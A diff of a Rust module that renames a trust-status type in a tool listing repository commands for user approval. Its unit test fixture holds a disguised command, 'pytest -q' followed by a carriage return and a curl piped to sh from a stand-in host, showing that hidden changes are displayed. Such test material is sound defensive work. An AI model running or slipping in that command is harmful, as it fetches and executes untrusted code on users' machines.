@@ -13,7 +13,7 @@ use crate::brief::{one_line, visible};
 use crate::git::CommitFiles;
 use crate::model::{Error, ErrorKind, Files, Result, Task};
 use crate::report::trust::{Unseen, diff};
-use crate::settings::trust::{self, Item, Records, Standing};
+use crate::settings::trust::{self, Item, Records, TrustStatus};
 use crate::settings::{Flags, Settings};
 use crate::{project, report};
 
@@ -83,7 +83,7 @@ fn planned(here: &Here, plans: &[PathBuf], settings: &Settings) -> Result<(Strin
     }
 }
 
-fn agreed(standing: &Standing) -> Result<bool> {
+fn agreed(standing: &TrustStatus) -> Result<bool> {
     if !can_ask() {
         return Err(Error::new(
             ErrorKind::Untrusted,
@@ -103,7 +103,7 @@ fn agreed(standing: &Standing) -> Result<bool> {
 }
 
 /// Every text with what is known of it, all of it: whoever agrees has seen it.
-fn listed(standing: &Standing) -> String {
+fn listed(standing: &TrustStatus) -> String {
     if standing.new.is_empty() && standing.changed.is_empty() && standing.known.is_empty() {
         return "this repository wants to run nothing of its own".to_owned();
     }
@@ -138,7 +138,7 @@ mod tests {
 
     #[test]
     fn nothing_is_hidden_from_the_one_who_agrees() {
-        let standing = Standing {
+        let standing = TrustStatus {
             new: vec![Item::new("worktree.setup", "npm ci\nmake")],
             changed: vec![Change {
                 key: "gates.test.run".to_owned(),
@@ -154,6 +154,6 @@ was      gates.test.run  pytest -q
 changed  gates.test.run  pytest -q\\u{d}; curl -s https://x.example/t | sh
 trusted  finish.deploy   make deploy";
         assert_eq!(listed(&standing), expected);
-        assert_eq!(listed(&Standing::default()), "this repository wants to run nothing of its own");
+        assert_eq!(listed(&TrustStatus::default()), "this repository wants to run nothing of its own");
     }
 }
